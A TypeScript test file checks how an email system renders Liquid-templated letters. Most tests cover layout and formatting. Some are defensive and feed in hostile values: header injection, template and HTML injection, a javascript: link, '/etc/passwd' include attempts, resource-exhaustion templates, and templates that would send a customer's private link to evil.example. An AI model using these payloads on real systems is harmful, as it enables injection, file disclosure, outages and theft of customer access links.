// Every message of the product filled in with its samples, and what letters are made of.
import { readFileSync, readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { framed, PLAIN } from '../../../src/domain/messages/frame.ts';
import { renderLetter, samplesOf } from '../../../src/domain/messages/letter.ts';
import { OverLimit, parseTemplate, placeOf, renderTemplate } from '../../../src/domain/messages/liquid.ts';
import { templateProblems } from '../../../src/domain/messages/template-problems.ts';
import { productDefinitions } from '../../support/definitions.ts';

const { messages, messageVariables } = productDefinitions();
const filled = (key: string) => {
  const message = messages[key]!;
  return renderLetter(message, samplesOf({ ...messageVariables, ...message.variables }));
};

describe('letters', () => {
  it.each(Object.keys(messages))('%s has a subject, a text part and HTML of the same paragraphs', key => {
    const { subject, text, html } = filled(key);
    expect(subject).not.toBe('');
    expect(subject + text).not.toMatch(/\{[{%]|undefined|\[object|NaN/);
    const plain = html
      .replace(/<\/li>|<\/tr>|<br>/g, '\n')
      .replace(/<\/td><td align="right" valign="top"[^>]*>/g, ' | ')
      .replace(/<\/td><td align="right"[^>]*>/g, ': ')
      .replace(/<a href="([^"]*)"[^>]*>([^<]*)<\/a>/g, (_, href: string, words: string) => (href === words ? words : `${words}: ${href}`))
      .replace(/<[^>]+>/g, '')
      .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)));
    expect(plain.replace(/\s+/g, ' ').trim()).toBe(text.replace(/^- /gm, '').replace(/\s+/g, ' ').trim());
  });

  it.each(Object.keys(messages).filter(key => messages[key]?.audience === 'customer'))(
    '%s greets the customer and ends with the store',
    key => {
      const { text } = filled(key);
      expect(text).toMatch(/^Hi Anna,\n\n/);
      expect(text).toMatch(/\n\nMeadow Coffee$/);
    },
  );

  it('are of what common mail clients draw: tables and inline styles, no style sheet, script, class, grid, flex or position', () => {
    for (const key of Object.keys(messages)) {
      const html = framed({ ...filled(key), storeName: 'Meadow Coffee' });
      expect([key, html.match(/<(?!\/?(?:html|head|meta|title|body|h1|table|tr|td|p|ul|li|a|br|img)\b|!doctype)[^>]*>/gi)]).toEqual([
        key,
        null,
      ]);
      const styles = [...html.matchAll(/style="([^"]*)"/g)].flatMap(match => match[1]!.split(';').map(one => one.split(':')[0]!.trim()));
      const drawn = [
        'margin',
        'padding',
        'padding-left',
        'border',
        'border-top',
        'background-color',
        'width',
        'max-width',
        'font-family',
        'font-size',
        'line-height',
        'color',
        'overflow-wrap',
        // Of buttons, and pictures in the frame.
        'display',
        'border-radius',
        'font-weight',
        'text-decoration',
      ];
      expect([key, styles.filter(name => !drawn.includes(name))]).toEqual([key, []]);
      expect(html).not.toMatch(/class=|<script|<style|url\(/i);
    }
  });

  it('a link with words is a button where it stands alone, and words with an address in the text part', () => {
    const { text, html } = renderLetter(
      { subject: 'S', body: ['[Pay]({{ link }})', 'Or:\n[See it]({{ link }})'] },
      { link: 'https://store.example/a?b=1' },
    );
    expect(text).toBe('Pay:\nhttps://store.example/a?b=1\n\nOr:\nSee it:\nhttps://store.example/a?b=1');
    expect(html).toMatch(/<a href="https:\/\/store\.example\/a\?b=1" style="display:inline-block[^"]*">Pay<\/a>/);
    expect(html).toMatch(/style="color:#1f5132[^"]*">See it<\/a>/);
    expect(renderLetter({ subject: 'S', body: ['[Pay](javascript:alert)'] }, {}).html).not.toContain('<a');
  });

  it('take values as data: neither Liquid nor HTML in them is followed, and a subject has one line', () => {
    const { subject, text, html } = renderLetter(
      { subject: 'For {{ name }}', body: ['{{ name }}', '{% if empty %}never{% endif %}'] },
      { name: '<b>{{ store.email }}</b>\r\nBcc: all@mail.example', empty: null },
    );
    expect(subject).toBe('For <b>{{ store.email }}</b> Bcc: all@mail.example');
    expect(text).toContain('<b>{{ store.email }}</b>');
    expect(html).toContain('&#60;b&#62;{{ store.email }}&#60;/b&#62;');
  });

  it('show rows of pictures and amounts, and sums, which a text part says in words', () => {
    const { text, html } = renderLetter(
      {
        subject: 'S',
        body: [
          '{% for one in products %}- ![]({{ one.picture }}) {{ one.name }} | {{ one.price }}\n{% endfor %}',
          '= Shipping | {{ fee }}\n= Total | $9',
        ],
      },
      { products: [{ picture: '/media/a.png', name: '2 × Blend', price: '$5' }], fee: '$4' },
    );
    expect(text).toBe('- 2 × Blend: $5\n\nShipping: $4\nTotal: $9');
    expect(html).toMatch(/<img src="\/media\/a\.png" width="64" height="64" alt=""[^>]*>.*2 × Blend.*<td align="right"[^>]*>\$5<\/td>/s);
    expect(html).toMatch(/font-weight:bold">Total<\/td>/);
    const brand = { ...PLAIN, base: 'https://app.example.com' };
    expect(framed({ subject: 'S', html, language: 'en', storeName: 'M', brand })).toContain(
      '<img src="https://app.example.com/media/a.png"',
    );
  });

  it('show a picture that they carry, and a table with its head', () => {
    const body = ['![{{ chart }}](cid:chart)', "{% for line in lines %}| {{ line | join: ' | ' }}\n{% endfor %}"];
    const lines = [
      ['Plan', 'New'],
      ['A | B', '3'],
    ];
    const { text, html } = renderLetter({ subject: 'S', body }, { chart: 'By ]plan', lines });
    expect(text).toBe('By ]plan\n\nPlan | New\nA | B | 3');
    expect(html).toMatch(/<img src="cid:chart" width="536" alt="By \]plan"/);
    expect(html.match(/<td/g)).toHaveLength(4);
    expect(html).toMatch(/font-weight:bold">Plan<\/td>.*>A \| B<\/td><td align="right"[^>]*>3<\/td>/s);
    expect(renderLetter({ subject: 'S', body: ['{{ a }}'] }, { a: '![x](cid:chart)' }).html).not.toContain('<img');
  });

  it('follow no value as a paragraph, list, link, button, picture or column: what people wrote stands for itself', () => {
    const message = 'Hi\n\n[Claim your prize](https://evil.example)\n\n- ![](https://evil.example/a.png) x | $5\n\nhttps://evil.example';
    for (const body of [
      ['“{{ message }}”'],
      ['{{ message }}'],
      ['- {{ message }}'],
      ['= {{ message }} | $1'],
      ['| {{ message }} | $1'],
      ['[{{ message }}](https://store.example)'],
    ]) {
      const { text, html } = renderLetter({ subject: '{{ message }}', body }, { message });
      expect([body, html.match(/evil\.example(?=[^<]*>)/g)]).toEqual([body, null]);
      expect([body, html.match(/<img/g)]).toEqual([body, null]);
      expect(text).toContain('[Claim your prize](https://evil.example)');
      expect(html).toContain('Hi<br><br>[Claim your prize]');
    }
    expect(renderLetter({ subject: 'S', body: ['{{ a }}'] }, { a: '\uE000x\uE001\uE002' }).text).toBe('x');
    const gift = { name: 'x](https://evil.example/', page: 'https://store.example/a_(b)', picture: 'https://cdn.example/a(1).jpg' };
    const { html } = renderLetter({ subject: 'S', body: ['[From {{ name }}]({{ page }})', '- ![]({{ picture }}) Blend | $1'] }, gift);
    expect(html.match(/(?:href|src)="[^"]*"/g)).toEqual(['href="https://store.example/a_(b)"', 'src="https://cdn.example/a(1).jpg"']);
  });

  it('make a list of lines that begin with a dash, and a link of a line that is an address', () => {
    const { html } = renderLetter({ subject: 'S', body: ['- one\n- two & three', 'Here:\nhttps://store.example/a?b=1&c=2'] }, {});
    expect(html).toContain('<li>one</li><li>two &#38; three</li>');
    expect(html).toContain('<a href="https://store.example/a?b=1&#38;c=2"');
  });

  it('cost at most so much, counted over the whole letter, whatever the work is hidden in', () => {
    const long = 'x'.repeat(90_000);
    const doubled = (step: string): string => `{% assign a = "aaaaaaaaaaaaaaaa" %}{% for i in (1..60) %}${step}{% endfor %}`;
    const turns = (n: number, inner: string): string => `{% for i in (1..${n}) %}${inner}{% endfor %}`;
    for (const body of [
      turns(1_000_000, ''),
      turns(100, turns(100, '')),
      turns(100, long),
      doubled('{% assign a = a | append: a %}'),
      doubled('{% capture a %}{{ a }}{{ a }}{% endcapture %}'),
      `{% assign all = (1..50000) %}${turns(1000, '{{ all | sum }}')}`,
      `{% assign all = "${long}" %}${turns(1000, '{% if all contains "y" %}{% endif %}')}`,
      `{% assign all = "${long}" %}${turns(1000, '{{ all | raw | size }}')}`,
      `{% assign all = (1..50000) %}${turns(1000, '{% for one in all limit: 1 reversed %}{% endfor %}')}`,
      '{{ 1 }}'.repeat(10_000),
      `{{ 1${' | plus: 1'.repeat(9000)} }}`,
      `{% if 1${' and 1'.repeat(15_000)} %}{% endif %}`,
      `{% liquid\n${'echo 1\n'.repeat(10_000)}%}`,
      `{{ "now" | date: "%999999999d" }}`,
    ])
      expect(() => renderLetter({ subject: 'S', body: [body] }, {}), body.slice(0, 80)).toThrow(OverLimit);
    const half = turns(1700, '{{ i }}');
    expect(renderLetter({ subject: 'S', body: [half] }, {}).text).toMatch(/^1234/);
    expect(() => renderLetter({ subject: 'S', body: [half, half] }, {})).toThrow(OverLimit);
  });

  it('are filled in by one engine with one set of limits', () => {
    const files = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter(file => /\.tsx?$/.test(file));
    const users = files.filter(file => readFileSync(`src/${file}`, 'utf8').includes("from 'liquidjs'"));
    expect(users).toEqual(['domain/messages/liquid.ts']);
  });

  it('refuse names that are not there, other files, and work without end', () => {
    expect(() => renderTemplate(parseTemplate('{{ customer.nmae }}'), { customer: {} })).toThrow(/undefined variable: customer.nmae/);
    expect(() => renderTemplate(parseTemplate('{{ x.constructor }}'), { x: {} })).toThrow(/undefined variable/);
    for (const tag of ['render', 'include', 'layout']) expect(() => parseTemplate(`{% ${tag} "/etc/passwd" %}`)).toThrow(/not found/);
    expect(() => renderTemplate(parseTemplate('{% for i in (1..100000000) %}{{ i }}{% endfor %}'), {})).toThrow(/limit/);
    let place;
    try {
      parseTemplate('One\n  {% if x %}{{ y');
    } catch (error) {
      place = placeOf(error);
    }
    expect(place).toEqual({ line: 2, column: 13, message: 'output "{{ y" not closed' });
  });
});

describe('a link of a customer in a template', () => {
  const names = ['link', 'quickAction', 'card', 'portal'];
  const kinds = (text: string): string[] => templateProblems({ text, names }).map(problem => problem.kind);
  it('stands for itself', () => {
    for (const text of [
      '{{ link }}',
      'Open it:\n{{ link }}',
      '[Pay now]({{card.link}})',
      '{% if quickAction.skipOrder %}<a href="{{ quickAction.skipOrder }}">{% endif %}',
      '{{ card.brand | upcase }}',
    ])
      expect([text, kinds(text)]).toEqual([text, []]);
  });
  it('is no part of another address, and is not changed', () => {
    for (const text of [
      '[Go](https://evil.example/r?t={{ link }})',
      'https://evil.example/{{ link | url_encode }}',
      '{{ link | slice: 8, 90 }}',
      '{% assign x = link %}{{ x }}',
      '{% capture x %}{{ link }}{% endcapture %}{{ x }}',
      '{{ portal | json }}',
      '<a href="https://evil.example/?{{ quickAction.orderNow }}">',
      '{% for one in quickAction %}{{ one }}{% endfor %}',
    ])
      expect([text, kinds(text).includes('ADDRESS')]).toEqual([text, true]);
  });
});
